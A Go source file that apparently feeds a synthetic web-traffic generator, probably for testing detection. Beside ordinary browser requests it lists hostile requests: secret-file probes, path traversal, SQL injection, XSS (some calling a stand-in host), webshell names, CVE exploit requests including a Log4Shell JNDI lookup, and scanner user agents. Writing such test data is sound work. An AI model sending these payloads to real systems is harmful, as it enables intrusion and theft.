package traffic

import "strings"

var (
	agents = []string{
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/139.0.0.0 Safari/537.36",
		"Mozilla/5.0 (X11; Linux x86_64; rv:142.0) Gecko/20100101 Firefox/142.0",
		"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Safari/605.1.15",
		"Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/139.0.0.0 Mobile Safari/537.36",
		"Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Mobile/15E148 Safari/604.1",
	}
	nouns = strings.Fields(`lamp chair table shelf kettle bottle jacket boots tent candle mirror carpet pillow basket ladder hammer garden
		bicycle backpack notebook pencil calendar camera speaker keyboard monitor cable battery lantern blanket teapot wallet umbrella
		compass whistle violin marble harbour orchard meadow river granite pepper saffron walnut thimble anchor beacon`)
	wpPlugins = strings.Fields(`contact-form-7 wp-file-manager revslider duplicator elementor wordfence jetpack akismet woocommerce
		wp-super-cache all-in-one-seo-pack backwpup updraftplus gravityforms layerslider wpdiscuz nextgen-gallery mailpoet loginizer
		ultimate-member easy-wp-smtp wp-statistics really-simple-ssl classic-editor`)
	// guesses are names that guessers try.
	guesses = strings.Fields(`admin test user ubuntu oracle postgres pi ftpuser guest mysql hadoop jenkins minecraft odoo support www
		ec2-user debian steam tomcat zabbix nagios dev operator sysadmin info sales web student demo`)
	// unbidden is what browsers and systems ask for by themselves.
	unbidden = strings.Fields(`/favicon.ico /apple-touch-icon.png /apple-touch-icon-precomposed.png /apple-touch-icon-120x120.png
		/apple-touch-icon-120x120-precomposed.png /browserconfig.xml /site.webmanifest /manifest.json /.well-known/change-password
		/.well-known/resource-that-should-not-exist-whose-status-code-should-not-be-200 /.well-known/appspecific/com.chrome.devtools.json
		/.well-known/assetlinks.json /.well-known/apple-app-site-association /apple-app-site-association /.well-known/traffic-advice
		/.well-known/passkey-endpoints /.well-known/webauthn /.well-known/gpc.json /opensearch.xml /ads.txt /llms.txt /wpad.dat
		/.well-known/dnt-policy.txt /.well-known/security.txt`)
	mailSettings = strings.Fields(`/autodiscover/autodiscover.xml /Autodiscover/Autodiscover.xml /autodiscover/autodiscover.json/v1.0/ann@example.net
		/.well-known/autoconfig/mail/config-v1.1.xml /mail/config-v1.1.xml /Microsoft-Server-ActiveSync /EWS/Exchange.asmx`)

	// probes are paths at which software with known holes is looked for.
	probes = strings.Fields(`/admin/ /administrator/ /wp-login.php /wp-admin/setup-config.php /xmlrpc.php /cgi-bin/test.cgi /manager/html
		/solr/admin/ /jenkins/login /login.aspx /owa/auth/logon.aspx /boaform/admin/formLogin /HNAP1/ /console/ /actuator/health /api/jsonws
		/setup.php /install.php /index.jsp /cmd.jsp /old/ /backup/ /db/ /test/ /dev/ /staging/ /portal/ /remote/login /geoserver/web/
		/druid/index.html /nacos/ /zabbix/ /phpinfo.php /info.php /server-info /telescope/requests /horizon/api/stats /v2/_catalog
		/ecp/Current/exporttool/ /struts2-showcase/ /jmx-console/ /invoker/readonly /axis2/ /hudson/ /webdav/ /tmp/ /_ignition/health-check
		/cgi-bin/luci/ /stalker_portal/c/ /sugar_version.json /dana-na/auth/url_default/welcome.cgi /vpn/index.html /global-protect/login.esp`)
	secrets = strings.Fields(`/.env /.env.bak /.env.production /.git/config /.git/HEAD /.svn/entries /.aws/credentials /.ssh/id_rsa
		/.htpasswd /wp-config.php.bak /backup.sql /dump.sql /docker-compose.yml /config/database.yml /api/.env /app/.env
		/.npmrc /credentials.json /.kube/config /.docker/config.json`)
	climbs = strings.Fields(`/../../../../../etc/passwd /static/..%2f..%2f..%2f..%2fetc%2fpasswd /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh
		/img/....//....//....//windows/win.ini /index.php?page=../../../../etc/passwd%00 /download?file=..%252f..%252f..%252fetc%252fshadow
		/view?doc=/../../../proc/self/environ /plugins/../../../../../../etc/hosts /a/b/..%5c..%5c..%5cwindows%5csystem.ini
		/public/plugins/alertlist/../../../../../../../../etc/passwd /get?path=....//....//etc/passwd /x?f=..%c0%af..%c0%afetc/passwd`)
	oddClimbs = strings.Fields(`/cgi-bin/.%%32%65/.%%32%65/.%%32%65/bin/sh /icons/%%32%65%%32%65/%%32%65%%32%65/etc/passwd
		/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir /scripts/..%255c..%255cwinnt/system32/cmd.exe?/c+dir
		/msadc/..%c1%9c../..%c1%9c../winnt/system32/cmd.exe?/c+dir /c/winnt/system32/cmd.exe?/c+dir /d/winnt/system32/cmd.exe?/c+dir
		/_vti_bin/..%c0%af..%c0%af..%c0%afwinnt/system32/cmd.exe?/c+ver /a/..%c0%af..%c0%af..%c0%afetc/hosts
		/cgi-bin/%2e%%32%65/%2e%%32%65/etc/hosts /x/%25c0%25ae%25c0%25ae/%25c0%25ae%25c0%25ae/%25c0%25ae%25c0%25ae/boot.ini`)
	injections = strings.Fields(`/shop?id=1%27%20OR%20%271%27=%271 /shop?id=1%20UNION%20SELECT%20null,user(),3--%20 /shop?id=1%27+and+sleep(5)--+
		/item?id=-1+union+all+select+1,2,table_name+from+information_schema.tables /item?id=1;waitfor%20delay%20%270:0:5%27--
		/list?sort=1%20AND%20(SELECT%201234%20FROM(SELECT%20COUNT(*),CONCAT(0x71,FLOOR(RAND(0)*2))x%20FROM%20information_schema.plugins%20GROUP%20BY%20x)a)
		/shop?id=1%27%20ORDER%20BY%2012--%20 /shop?id=1%20AND%20extractvalue(1,concat(0x7e,version())) /shop?id=1%27%20and%20benchmark(5000000,md5(1))--%20
		/shop?id=(select(0)from(select(sleep(6)))v) /shop?id=1%27;drop%20table%20users--%20 /shop?id=1%20or%20pg_sleep(5)--
		/shop?id=1%27||(select%20utl_inaddr.get_host_address(user)%20from%20dual)||%27 /shop?id=1%27)%20union%20select%20load_file(0x2f6574632f706173737764)--%20`)
	scripts = strings.Fields(`/q?s=%3Cscript%3Ealert(1)%3C/script%3E /q?s=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E /q?s=%3Csvg/onload=alert(1)%3E
		/q?s=javascript:alert(document.cookie) /q?s=%3Ciframe%20src=javascript:alert(1)%3E /q?s=%27;alert(String.fromCharCode(88,83,83))//
		/q?s=%3Cbody%20onload=alert(1)%3E /q?s=%3Cscript%20src=//x.example/x.js%3E%3C/script%3E /q?s=%22onmouseover=%22prompt(1)
		/q?s=%3Cdetails%20open%20ontoggle=alert(1)%3E /q?s=%3Cmarquee%20onstart=alert(1)%3E /q?s=%3Cscript%3Edocument.location=%27//x.example%27%3C/script%3E`)
	shells = strings.Fields(`/shell.php /c99.php /r57.php /wso.php /b374k.php /alfa.php /cmd.php /webshell.php /up.php /uploader.php /mini.php
		/indoxploit.php /0x.php /marijuana.php /wp-content/uploads/shell.php /images/shell.php /cmd.aspx /shell.jsp /cmdasp.asp /filesman.php
		/wp-includes/wso.php /adminer.php /bypass.php /c100.php`)
	adminPages = strings.Fields(`/phpmyadmin/ /phpMyAdmin/ /pma/ /myadmin/ /mysqladmin/ /adminer/ /adminer.php /phppgadmin/ /manager/html
		/host-manager/html /admin/login.php /administrator/index.php /admin.php /webmin/ /cpanel /actuator/env /solr/admin/cores /jmx-console/
		/console/login/LoginForm.jsp /phpmyadmin/index.php?lang=en /dbadmin/ /sqladmin/ /web/phpMyAdmin/ /pma2020/`)
	// holes are requests for one hole each: CVE-2021-41773, CVE-2017-9841, CVE-2021-44228, CVE-2022-22963, CVE-2018-13379,
	// CVE-2019-11510, CVE-2023-1389, CVE-2021-43798, CVE-2022-26134, CVE-2024-4577, CVE-2020-5902, CVE-2019-19781, CVE-2023-22515,
	// CVE-2024-27198, CVE-2018-10561, CVE-2021-26855, CVE-2023-46805, CVE-2017-5638's neighbours.
	holes = strings.Fields(`/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php
		/?x=$%7Bjndi:ldap://198.51.100.9/a%7D /functionRouter /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession
		/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/ /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)
		/public/plugins/graph/../../../../../../../../etc/passwd /%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/
		/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input /tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd
		/vpn/../vpns/cfg/smb.conf /server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false
		/hax?jsp=/app/rest/server;.jsp /GponForm/diag_Form?images/ /autodiscover/autodiscover.json?@x.example/owa/&Email=autodiscover/autodiscover.json%3F@x.example
		/api/v1/totp/user-backup-code/../../system/system-information /struts2-showcase/index.action`)
	badAgents = []string{
		"sqlmap/1.9#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
		"masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "WPScan v3.8.28 (https://wpscan.com/wordpress-security-scanner)", "DirBuster-1.0-RC1 (http://www.owasp.org)",
		"gobuster/3.6", "Fuzz Faster U Fool v2.1.0", "Mozilla/5.0 zgrab/0.x", "Acunetix-WVS", "w3af.org", "Mozilla/5.0 (Hydra)",
	}
	queries = strings.Fields(`how+to+union+two+lists select+a+lamp+from+the+union+shop what+does+%3Cscript%3E+do drop+table+lamp
		where+is+%2Fetc%2Fpasswd O%27Reilly O%27Neill+or+O%27Brien 1+%2B+1+%3D+2 select+distinct+explained union+select+tutorial
		insert+into+vs+update rock+%26+roll 50%25+off C%2B%2B+%3C%3D%3E+operator order+by+price+desc javascript+alert+tutorial
		sleep+better+tonight having+fun+and+group+by img+onerror+fallback it%27s+%22quoted%22 a%27+string`)
)
